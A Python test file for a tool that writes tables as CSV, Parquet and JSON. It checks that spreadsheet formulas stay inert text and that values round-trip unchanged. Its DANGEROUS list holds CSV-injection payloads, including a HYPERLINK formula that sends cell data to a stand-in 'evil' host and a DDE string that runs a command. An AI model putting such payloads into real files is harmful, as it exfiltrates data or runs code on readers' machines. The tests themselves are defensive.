"""Tables: whole or not at all, numbers as numbers, and nothing a spreadsheet would run."""

import csv
import json
from decimal import Decimal
from enum import StrEnum
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from lipsync.errors import StorageError, UsageError
from lipsync.formulas import marked, unmarked
from lipsync.manifest import fault_rows
from lipsync.reading import read_manifest
from lipsync.tables import read_table, write_table

DANGEROUS = [
    "=1+1",
    '=HYPERLINK("http://evil/?x="&A1,"click")',
    "+1",
    "-1+cmd|' /C calc'!A0",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(A1)",
    "\0=1",
    "a;=1+1",
    'a";"=1+1',
    "a\n=1+1",
    "a\t@b",
]
SAFE = ["a-b", "1+1=2", "talk.de", "", "'tis", "me@host", "ein \u2013 Strich", "a=b"]


class Kind(StrEnum):
    """Something with a name."""

    ONE = "one"


@pytest.mark.parametrize("text", DANGEROUS)
def test_a_formula_stays_text_in_the_csv(text: str, tmp_path: Path) -> None:
    path, _, _ = write_table([{"id": text}], tmp_path / "out")
    (row,) = list(csv.DictReader(path.open(encoding="utf-8-sig", newline="")))
    assert row["id"][0] == "'" or row["id"].startswith("a")
    assert read_table(path) == [{"id": text}]


@pytest.mark.parametrize("text", DANGEROUS)
@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_no_cell_begins_with_a_sign_whatever_delimiter_the_reader_takes(
    text: str, delimiter: str, tmp_path: Path
) -> None:
    path, _, _ = write_table([{"a": "x", "id": text, "b": "y"}], tmp_path / "out")
    with path.open(encoding="utf-8-sig", newline="") as stream:
        cells = [cell for row in csv.reader(stream, delimiter=delimiter) for cell in row]
    assert not [
        cell for cell in cells if cell.lstrip('"').startswith(tuple("=+-@\uff1d\uff0b\uff0d\uff20"))
    ]


@pytest.mark.parametrize("text", SAFE)
def test_what_no_spreadsheet_would_run_is_not_touched(text: str) -> None:
    assert marked(text) == text


@given(st.text(alphabet="=+-@\uff1d'\";\t\r\n\0ab ,"))
@example("'\t='=")
def test_marks_come_off_as_they_went_on(text: str) -> None:
    assert unmarked(marked(text)) == text


@settings(max_examples=20)
@given(st.lists(st.text(), min_size=1, max_size=3))
def test_every_text_comes_back_from_every_format(texts: list[str]) -> None:
    import tempfile

    texts = [text.encode("utf-8", "backslashreplace").decode() for text in texts]
    rows = [{"id": text, "n": at} for at, text in enumerate(texts)]
    with tempfile.TemporaryDirectory() as folder:
        for path in write_table(rows, Path(folder) / "out"):
            assert [row["id"] for row in read_table(path)] == texts


ROWS: list[dict[str, object]] = [
    {"id": "=1", "line": 2, "usd": Decimal("0.05"), "late": False, "path": Path("a/b.mp4")},
    {"id": Kind.ONE, "line": None, "usd": None, "late": None, "path": None, "more": ["x", 1]},
    {"id": "three", "line": 4, "usd": Decimal(2), "late": True, "only": 1},
]


def test_numbers_stay_numbers_and_nothing_stays_nothing(tmp_path: Path) -> None:
    _, parquet, plain = write_table(ROWS, tmp_path / "out")
    expected: list[dict[str, Any]] = [
        {"id": "=1", "line": 2, "usd": 0.05, "late": False, "path": "a/b.mp4"},
        {"id": "one", "line": None, "usd": None, "late": None, "path": None},
        {"id": "three", "line": 4, "usd": 2.0, "late": True, "path": None},
    ]
    rest = [{"more": None}, {"more": '["x", 1]'}, {"more": None}]
    for row, more, only in zip(expected, rest, (None, None, 1), strict=True):
        row.update(more, only=only)
    assert read_table(parquet) == read_table(plain) == expected
    assert json.loads(plain.read_text()) == expected
    assert list(pd.read_parquet(parquet).columns) == list(expected[0])


def test_the_csv_has_numbers_without_quotes_and_texts_with(tmp_path: Path) -> None:
    path, _, _ = write_table(ROWS[:1], tmp_path / "out")
    assert path.read_bytes() == (
        b'\xef\xbb\xbf"id","line","usd","late","path"\r\n"\'=1",2,0.05,False,"a/b.mp4"\r\n'
    )


def test_a_column_of_mixed_kinds_is_text(tmp_path: Path) -> None:
    rows = [{"x": 1}, {"x": "one"}, {"x": True}, {"x": 2**70}]
    for path in write_table(rows, tmp_path / "out"):
        assert [row["x"] for row in read_table(path)] == ["1", "one", "true", str(2**70)]


def test_what_is_no_number_is_nothing(tmp_path: Path) -> None:
    _, parquet, plain = write_table([{"x": float("nan")}, {"x": float("inf")}], tmp_path / "out")
    assert read_table(parquet) == read_table(plain) == [{"x": None}, {"x": None}]


def test_a_table_without_rows_has_its_columns(tmp_path: Path) -> None:
    path, parquet, plain = write_table([], tmp_path / "out", ["line", "reason"])
    assert path.read_text("utf-8-sig").strip() == '"line","reason"'
    assert list(pd.read_parquet(parquet).columns) == ["line", "reason"]
    assert read_table(plain) == []


def test_a_name_with_dots_keeps_them(tmp_path: Path) -> None:
    path, _, _ = write_table(ROWS, tmp_path / "new" / "batch.2026-11")
    assert path == tmp_path / "new" / "batch.2026-11.csv"


def test_a_name_that_is_no_utf8_can_be_written(tmp_path: Path) -> None:
    for path in write_table([{"path": Path("a\udcff.mp4")}], tmp_path / "out"):
        assert read_table(path) == [{"path": "a\\udcff.mp4"}]


def test_a_table_that_cannot_be_written_leaves_the_one_before(tmp_path: Path) -> None:
    paths = write_table(ROWS, tmp_path / "out")
    before = [path.read_bytes() for path in paths]
    (tmp_path / "file").touch()
    with pytest.raises(StorageError, match="cannot be created"):
        write_table(ROWS, tmp_path / "file" / "out")
    (tmp_path / "taken.json").mkdir()
    with pytest.raises(StorageError, match="cannot be written"):
        write_table(ROWS, tmp_path / "taken")
    assert [path.read_bytes() for path in paths] == before
    assert not list(tmp_path.glob(".dubline-*"))


@pytest.mark.parametrize("name", ["a.csv", "a.parquet", "a.json"])
@pytest.mark.parametrize("content", [None, b"", b"\xff\xfe\x00"])
def test_what_is_no_table_is_one_sentence(name: str, content: bytes | None, tmp_path: Path) -> None:
    if content is not None:
        (tmp_path / name).write_bytes(content)
    with pytest.raises(UsageError, match="is no table written by Dubline"):
        read_table(tmp_path / name)


def test_the_table_of_bad_rows_can_be_exported(tmp_path: Path) -> None:
    (tmp_path / "dubs.csv").write_text('video,voice,id\n=cmd(),"@x",-1\n')
    manifest = read_manifest(tmp_path / "dubs.csv")
    path, _, plain = write_table(fault_rows(manifest), tmp_path / "faults")
    cells = [row["value"] for row in read_table(plain)]
    assert cells == ["=cmd()", "@x"]
    with path.open(encoding="utf-8-sig", newline="") as stream:
        rows = list(csv.DictReader(stream))
    assert [(row["id"], row["value"]) for row in rows] == [("'-1", "'=cmd()"), ("'-1", "'@x")]
